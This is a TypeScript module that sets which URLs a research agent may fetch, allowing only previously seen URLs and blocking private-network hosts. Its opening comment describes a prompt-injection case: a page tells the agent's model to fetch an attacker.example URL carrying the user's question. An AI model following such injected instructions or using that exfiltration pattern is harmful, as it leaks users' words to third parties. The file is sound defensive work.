import { isIP } from "node:net";

/**
 * Which pages the research agent may read. A page it reads can tell its model to fetch
 * `https://attacker.example/?q=<the user's question>`; an obedient model would then send the
 * user's words anywhere. So the agent may fetch only URLs this research has already seen (in
 * its search results, in the links of pages it fetched, or in the question), and never a host
 * on a private network. The public web_fetch tool has no such policy: its caller chose the URL.
 */
export class UrlPolicy {
  private readonly seen = new Set<string>();

  constructor(question: string) {
    for (const url of urlsIn(question)) this.allow(url);
  }

  allow(url: string): void {
    const key = normalize(url);
    if (key) this.seen.add(key);
  }

  /** Why the URL may not be fetched, or undefined when it may. */
  refusal(url: string): string | undefined {
    let parsed: URL;
    try {
      parsed = new URL(url);
    } catch {
      return "not an absolute URL";
    }
    if (isPrivateHost(parsed.hostname)) {
      return `${parsed.hostname} is a loopback, private or local-network host, which research never fetches`;
    }
    if (!this.seen.has(normalize(url) ?? "")) {
      return "research fetches only URLs found in its search results, in the links of pages it read, or in the question; search for the page first";
    }
    return undefined;
  }
}

/** The form two spellings of one URL share: no fragment, no trailing slash on the path. */
function normalize(url: string): string | undefined {
  try {
    const parsed = new URL(url);
    if (parsed.protocol !== "http:" && parsed.protocol !== "https:") return undefined;
    parsed.hash = "";
    if (parsed.pathname.length > 1) parsed.pathname = parsed.pathname.replace(/\/+$/, "");
    return parsed.href;
  } catch {
    return undefined;
  }
}

export function urlsIn(text: string): string[] {
  return [...text.matchAll(/https?:\/\/[^\s<>"'`)\]]+/gi)].map((m) =>
    m[0].replace(/[.,;:!?]+$/, ""),
  );
}

/**
 * Loopback, private, link-local, unspecified and shared-address IPs (v4, v6 and v4-mapped v6),
 * localhost names, single-label names and the .local/.internal/.lan/.home.arpa suffixes. The
 * URL parser has already turned decimal or hex IPv4 spellings into dotted form.
 */
export function isPrivateHost(hostname: string): boolean {
  const host = hostname
    .toLowerCase()
    .replace(/^\[|\]$/g, "")
    .replace(/\.$/, "");
  const version = isIP(host);
  if (version === 4) return isPrivateV4(host);
  if (version === 6) {
    const mapped = /^::ffff:(\d+\.\d+\.\d+\.\d+)$/.exec(host)?.[1];
    if (mapped) return isPrivateV4(mapped);
    const hex = /^::ffff:([0-9a-f]{1,4}):([0-9a-f]{1,4})$/.exec(host);
    if (hex) {
      const value =
        (Number.parseInt(hex[1] as string, 16) << 16) | Number.parseInt(hex[2] as string, 16);
      return isPrivateV4([24, 16, 8, 0].map((shift) => (value >>> shift) & 255).join("."));
    }
    return host === "::" || host === "::1" || /^f[cd]/.test(host) || /^fe[89ab]/.test(host);
  }
  if (!host.includes(".")) return true;
  return /(^|\.)(localhost|local|internal|lan|intranet|corp|home\.arpa)$/.test(host);
}

function isPrivateV4(address: string): boolean {
  const [a = 0, b = 0] = address.split(".").map(Number);
  return (
    a === 0 ||
    a === 10 ||
    a === 127 ||
    (a === 100 && b >= 64 && b <= 127) ||
    (a === 169 && b === 254) ||
    (a === 172 && b >= 16 && b <= 31) ||
    (a === 192 && b === 168) ||
    a >= 224
  );
}
